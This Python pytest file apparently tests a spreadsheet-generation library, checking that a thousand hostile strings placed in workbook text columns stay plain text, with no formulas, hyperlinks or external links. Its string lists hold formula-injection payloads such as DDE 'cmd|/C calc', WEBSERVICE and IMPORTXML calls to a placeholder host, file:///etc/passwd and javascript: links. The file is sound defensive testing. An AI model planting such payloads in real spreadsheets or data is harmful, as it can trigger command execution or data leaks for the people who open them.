"""Text from data stays text: a thousand strings that would like to be a formula or a link, through every text column."""

import dataclasses
import itertools
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from tests.workbooks.mornings import until
from xlsig.ooxml import replace_table
from xlsig.workbooks.building import build
from xlsig.workbooks.inputs import inputs_of
from xlsig.workbooks.refreshing import refresh_workbook
from xlsig.workbooks.templates import TEMPLATES

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "=+",
    "=-",
    "{=",
    "=@",
    "＝",
    "%3D",
    "|",
    "!",
    "\\",
    "=cmd|' /C calc'!A0;",
)
BODIES = (
    *(
        "1+1",
        "SUM(A1:A9)",
        'HYPERLINK("http://x.example","click")',
        "cmd|'/C calc'!A0",
        'IMPORTXML(CONCAT("http://x",A1),"//a")',
        "A1",
        "1/0",
    ),
    *(
        'WEBSERVICE("http://x.example")',
        "'[other.xlsx]Sheet1'!A1",
        'EXEC("calc")',
        "SELLOFF_STREAK(Flows[world])",
        "1",
        "1e5",
        "TRUE",
        "#N/A",
    ),
    *(
        "http://x.example",
        "mailto:a@x.example",
        "file:///etc/passwd",
        "\\\\host\\share",
        "javascript:alert(1)",
        "<b>&amp;</b>",
        "]]>",
        "_x0041_",
        "é漢🙂",
    ),
    *(
        "2025-01-03",
        "1,234.5",
        "0x1F",
        'INDIRECT("A1")',
        'DDE("cmd","/C")',
        "-",
        "--1",
        "''",
        '""',
        "a\nb",
        "a\tb",
        " trailing ",
        "",
        "_x000D_",
    ),
)
STRINGS = [start + body for start, body in itertools.product(STARTS, BODIES)]
STRINGS += [
    body + ending
    for body, ending in itertools.product(BODIES, ("x", ";=1+1", "&A1", " " * 200 + "=1", "\ufeff=1", "|", "\u202e=1+1", "\u00a0"))
]
HOSTILE = sorted({text for text in STRINGS if "\r" not in text})[:1000]
ROWS = len(HOSTILE)


def test_there_are_a_thousand_of_them():
    assert ROWS == 1000


@pytest.fixture(scope="module")
def hostile():
    """The desk's data with every text column filled with them."""
    inputs = inputs_of(until("2025-01-03"))
    tables = {}
    for name, table in inputs.tables.items():
        texts = [at for at, style in enumerate(table.styles) if style == "text" and not name.endswith("Week")]
        rows = [list(row) for row in table.rows]
        for number, row in enumerate(rows):
            for at in texts:
                row[at] = HOSTILE[(number + at) % ROWS]
        tables[name] = dataclasses.replace(table, rows=tuple(map(tuple, rows)))
    return dataclasses.replace(inputs, tables=tables)


def texts_of(path, inputs):
    """What the text columns of the tables hold, with the kind of each cell."""
    book = load_workbook(path)
    for sheet in book:
        for name, area in sheet.tables.items():
            table = inputs.tables.get(name)
            if table is None:
                continue
            cells = sheet[area][1:]
            for at, style in enumerate(table.styles):
                if style == "text":
                    yield from ((row[at], expected[at]) for row, expected in zip(cells, table.rows, strict=True))


def check(path, inputs):
    seen = set()
    for cell, expected in texts_of(path, inputs):
        assert cell.data_type in ("s", "inlineStr"), cell.coordinate
        assert cell.hyperlink is None
        assert expected in (cell.value or "", unescape(cell.value or "")), cell.coordinate  # openpyxl unescapes shared strings itself
        seen.add(expected)
    assert len(seen & set(HOSTILE)) == ROWS
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            if part.startswith("xl/worksheets/_rels"):
                assert b"hyperlink" not in package.read(part)
            assert not part.startswith("xl/externalLinks")


def test_built_they_stay_text(hostile, tmp_path):
    build(TEMPLATES["danger"](hostile), tmp_path / "danger.xlsx")
    check(tmp_path / "danger.xlsx", hostile)


def test_refreshed_they_stay_text(hostile, tmp_path):
    path = tmp_path / "danger.xlsx"
    build(TEMPLATES["danger"](inputs_of(until("2024-12-31"))), path)
    refresh_workbook(path, hostile)
    check(path, hostile)


def test_in_every_column_of_any_table_they_stay_text(tmp_path):
    import xlsxwriter

    path = tmp_path / "any.xlsx"
    with xlsxwriter.Workbook(path) as workbook:
        workbook.add_worksheet("Data").add_table(0, 0, 2, 3, {"name": "Any", "columns": [{"header": name} for name in "abcd"]})
    rows = [[HOSTILE[(number + at) % ROWS] for at in range(4)] for number in range(ROWS)]
    replace_table(path, "Any", list("abcd"), rows)
    sheet = load_workbook(path)["Data"]
    for cells, expected in zip(sheet.iter_rows(min_row=2, max_row=ROWS + 1), rows, strict=True):
        for cell, text in zip(cells, expected, strict=True):
            assert cell.data_type in ("s", "inlineStr")
            assert unescape(cell.value) == text
            assert cell.hyperlink is None
